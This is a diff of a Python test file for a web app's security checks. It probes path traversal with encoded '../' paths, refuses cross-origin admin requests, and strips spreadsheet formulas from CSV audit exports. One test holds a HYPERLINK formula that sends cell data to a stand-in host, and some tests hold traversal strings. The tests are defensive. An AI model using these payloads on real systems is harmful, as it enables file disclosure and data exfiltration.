@@ -18,7 +18,7 @@ from mi2b2.api.app import create_app
 from mi2b2.services.context import ServiceContext, build_context
 from mi2b2.testing import FakeClock
 from support.site import load_site
-from support.viewing import Cached, fill
+from support.viewing import ROOT, Cached, fill
 
 CLIENT = Path(str(resources.files("mi2b2.web").joinpath("static", "app")))
 OUTSIDE = re.compile(r"(src|href)=\"https?://|@import|url\(http|fonts\.googleapis|https?://[a-z0-9.-]+\.(com|net|org|io)/")
@@ -71,12 +71,12 @@ def test_every_module_the_client_imports_exists() -> None:
             assert (CLIENT / "js" / name).is_file(), f"{module.name} imports a missing {name}"
 
 
-@pytest.mark.parametrize("path", ["/app/../pyproject.toml", "/app/js/..%2F..%2Fviewer%2Fviewer.js", "/app/secrets.txt",
-                                  "/app/js/none.js", "/app/%2e%2e/app.css"])
+@pytest.mark.parametrize("path", ["/app/js/..%2F..%2Fviewer%2Fviewer.js", "/app/%2e%2e%2F%2e%2e%2Fviewer%2Fviewer.js",
+                                  "/app/secrets.txt", "/app/js/none.js", "/app/%2e%2e/app.css"])
 def test_nothing_outside_the_client_folder_is_served(client: TestClient, path: str) -> None:
     response = client.get(path)
     assert response.status_code == 404
-    assert "[project]" not in response.text and "use strict" not in response.text
+    assert response.json()["error"].startswith("no client file")  # refused by the client's own door
 
 
 def test_the_viewer_may_be_framed_by_the_client_only(client: TestClient) -> None:
@@ -102,3 +102,32 @@ def test_audit_search_takes_its_patient_filter_in_the_body(client: TestClient, s
     assert refused.status_code == 403 and "auditors" in refused.json()["error"]
     unknown_field = client.post("/api/v1/audit/search", json={"patients": "x"}, headers=seeded.headers("audrey"))
     assert unknown_field.status_code == 422 and "patients" in unknown_field.json()["error"]
+
+
+def test_a_cookie_change_from_another_origin_is_refused(client: TestClient, ctx: ServiceContext) -> None:
+    ctx.accounts.add_user(ROOT, "rita", "admin", "rita-password-1")
+    assert client.post("/api/v1/auth/login", json={"login": "rita", "password": "rita-password-1"}).status_code == 200
+    reload = "/api/v1/admin/config/reload"
+    foreign = client.post(reload, headers={"Origin": "https://wiki.example.org"})
+    assert foreign.status_code == 403 and "another site" in foreign.json()["error"]
+    assert client.post(reload, headers={"Sec-Fetch-Site": "same-site"}).status_code == 403
+    assert client.post(reload, headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200
+    assert client.post(reload, headers={"Origin": "http://testserver"}).status_code == 200
+    assert client.get("/api/v1/auth/me", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 200  # reads are safe
+    token = ctx.accounts.create_token(ROOT, "rita", "script").secret
+    with_token = client.post(reload, headers={"Origin": "https://wiki.example.org", "Authorization": f"Bearer {token}"})
+    assert with_token.status_code == 200  # a token is not sent by a browser on its own
+
+
+def test_the_audit_export_cannot_carry_a_spreadsheet_formula(client: TestClient, seeded: Cached,
+                                                              ctx: ServiceContext) -> None:
+    formula = '=HYPERLINK("http://x.example/?"&B2,"open")'
+    refused = client.post("/api/v1/auth/login", json={"login": formula, "password": "whatever"})
+    assert refused.status_code == 403
+    ctx.audit.record("alice", "query", project_id="alpha", patient_id="=1+2")  # type: ignore[arg-type]
+    exported = client.post("/api/v1/audit/export.csv", json={}, headers=seeded.headers("audrey"))
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+    assert formula not in exported.text
+    assert "(not a login name)" in {row["actor"] for row in rows}
+    assert "'=1+2" in {row["patient_id"] for row in rows}
